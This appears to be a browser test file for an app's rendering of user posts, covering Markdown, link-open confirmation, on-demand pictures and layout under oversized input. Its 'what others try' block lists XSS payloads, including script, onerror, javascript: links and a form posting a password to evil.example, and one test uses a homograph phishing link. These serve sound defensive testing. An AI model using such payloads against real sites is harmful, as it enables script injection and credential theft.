// Content of posts: Markdown, links, pictures, and attacks with them.
import { describe, expect, test, vi } from "vitest";
import { page } from "vitest/browser";
import type { Commands } from "$lib/ipc";
import { aPost, aStatus, type AllCommands } from "../../test/fakes";
import { button, feedOf, open, posts } from "../../test/window";

const MIB = 1024 * 1024;

/** Opens the page of a post. */
function withText(content: string, commands: Partial<AllCommands> = {}) {
  const post = aPost(1, { content });
  return open(aStatus({ pending_destination: { kind: "post", id: 1, server: null } }), {
    ...feedOf(post),
    post: () => Promise.resolve(post),
    ...commands,
  });
}

const link = (name: string) => page.getByRole("link", { name });

test("a post is read as Markdown", async () => {
  await withText("## Bread\n\n- [x] flour\n- [ ] *time*\n\n| a | b |\n| - | - |\n| 1 | 2 |\n");
  await expect.element(page.getByRole("heading", { name: "Bread" })).toBeVisible();
  await expect.element(page.getByRole("checkbox", { name: "Done" })).toBeChecked();
  await expect.element(page.getByRole("checkbox", { name: "To do" })).toBeDisabled();
  await expect.element(page.getByRole("cell", { name: "2" })).toBeVisible();
});

test("asks before a link is opened", async () => {
  const openLink = vi.fn<Commands["openLink"]>().mockResolvedValue(null);
  await withText("[bank.example](https://аррӏе.example/login)", { openLink });
  await link("bank.example").click();
  await expect.element(page.getByText("https://xn--80ak6aa92e.example/login")).toBeVisible();
  await expect.element(page.getByText("letters from other alphabets")).toBeVisible();
  await expect.element(page.getByText("The link’s text says bank.example")).toBeVisible();
  await button("Cancel").click();
  expect(openLink).not.toHaveBeenCalled();
  await link("bank.example").click({ button: "middle" });
  await button("Open link").click();
  expect(openLink).toHaveBeenCalledWith("https://xn--80ak6aa92e.example/login");
  await expect.element(button("Open link")).not.toBeInTheDocument();
});

test("a picture is loaded when the reader asks for it", async () => {
  const picture = `${location.origin}/logo.svg?of-this-test`;
  // The browser remembers only so many, and every module of the app is one.
  performance.clearResourceTimings();
  const loaded = () => performance.getEntriesByName(picture).length;
  await withText(`![A fire](${picture})`);
  const offer = page.getByRole("button", { name: "Show picture: A fire" });
  await expect.element(offer).toBeVisible();
  expect(loaded()).toBe(0);
  await offer.click();
  await expect.element(page.getByRole("img", { name: "A fire" })).toBeVisible();
  await vi.waitFor(() => {
    expect(loaded()).toBe(1);
  });
});

test("pictures are loaded at once on a server where that is set", async () => {
  const post = aPost(1, { content: `![A fire](${location.origin}/logo.svg?at-once)` });
  const { send } = await open(
    aStatus({ show_pictures: true, pending_destination: { kind: "post", id: 1, server: null } }),
    { ...feedOf(post), post: () => Promise.resolve(post) },
  );
  await expect.element(page.getByRole("img", { name: "A fire" })).toBeVisible();
  send(aStatus());
  await expect.element(page.getByRole("button", { name: "Show picture: A fire" })).toBeVisible();
});

test("a failed picture can be retried", async () => {
  await withText("![A fire](http://127.0.0.1:9/none.png)");
  await page.getByRole("button", { name: "Show picture: A fire" }).click();
  await expect
    .element(page.getByRole("button", { name: "Can’t load this picture. Try again" }))
    .toHaveFocus();
});

describe("what others try", () => {
  const hostile = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<svg onload='window.harmed = 1'><a href='javascript:window.harmed = 1'>x</a></svg>",
    "[x](javascript:window.harmed=1)",
    "![x](x'onerror=window.harmed=1)",
    "<style>* { display: none !important }</style>",
    "<base href='https://evil.example/'><form action='https://evil.example/'><input name=password></form>",
  ];

  test("nothing runs, and HTML is shown as what was typed", async () => {
    await withText(hostile.join("\n\n"));
    await expect.element(posts()).toHaveTextContent("<script>window.harmed = 1</script>");
    expect("harmed" in window).toBe(false);
    const content = posts().element().querySelector(".markdown");
    expect(content?.querySelectorAll("script, img, svg, style, base, form, input")).toHaveLength(0);
  });

  test.each([
    ["one endless word", "a".repeat(1200)],
    ["an endless word in a table", `|a|b|\n|-|-|\n|${"x".repeat(900)}|y|`],
    ["many columns", `|${"a|".repeat(150)}\n|${"-|".repeat(150)}\n|${"x|".repeat(150)}`],
    ["an endless line of code", `\`\`\`\n${"x".repeat(1000)}\n\`\`\``],
    ["a tower of marks", `a${"\u0301".repeat(1000)}`],
    ["overrides", "\u202Eabc\u202D\u2066\u2067 ".repeat(60)],
    ["deep quotes", `${"> ".repeat(400)}end`],
    ["deep lists", `${"- ".repeat(400)}end`],
    ["an endless heading", `# ${"W".repeat(1000)}`],
    ["an endless address", `https://a.example/${"x".repeat(1000)}`],
  ])("%s keeps to its post, in a list and on its page", async (_name, content) => {
    const post = aPost(2, { content, title: `T${content.slice(0, 300)}` });
    await open(aStatus(), { ...feedOf(post, aPost(1)), post: () => Promise.resolve(post) });
    await page.viewport(400, 700);
    await expect.element(posts().first()).toBeVisible();
    const row = posts().first().element().getBoundingClientRect();
    const fits = () => document.documentElement.scrollWidth <= window.innerWidth;
    expect(fits()).toBe(true);
    await expect.element(posts().nth(1)).toBeInTheDocument();
    const next = posts().nth(1).element().getBoundingClientRect();
    expect(next.top).toBeGreaterThanOrEqual(row.bottom);

    posts().first().element().querySelector("a")?.click();
    await expect.element(button("Copy link")).toBeVisible();
    const card = posts().element().getBoundingClientRect();
    const inner = posts().element().querySelector(".markdown")?.getBoundingClientRect();
    expect(fits()).toBe(true);
    expect(inner?.right).toBeLessThanOrEqual(card.right);
  });

  test.each([
    ["paragraphs", "Words **bold** and [a link](https://a.example).\n\n"],
    ["one endless word", "a"],
    ["rows of a table", "|a|b|\n|-|-|\n|x|y|\n\n"],
    ["unclosed brackets", "["],
  ])(
    "a mebibyte of %s opens while the window goes on",
    async (_name, unit) => {
      const content = `${unit.repeat(MIB / unit.length)}\n\nthe end`;
      const post = aPost(1, { content });
      await open(aStatus(), { ...feedOf(post), post: () => Promise.resolve(post) });
      await expect.element(posts()).toBeVisible();
      let longest = 0;
      let before = performance.now();
      let watching = true;
      const watch = (now: number) => {
        longest = Math.max(longest, now - before);
        before = now;
        if (watching) requestAnimationFrame(watch);
      };
      requestAnimationFrame(watch);
      const started = performance.now();
      await page.getByRole("link", { name: "Title 1" }).click();
      const end = () => posts().element().querySelector(".markdown")?.lastElementChild?.textContent.trimEnd();
      await vi.waitUntil(() => end()?.endsWith("the end"), { timeout: 30_000 });
      watching = false;
      // Not how fast the machine is, but that no frame took most of the whole work.
      expect(longest).toBeLessThan(Math.max(500, (performance.now() - started) / 2));
    },
    60_000,
  );
});
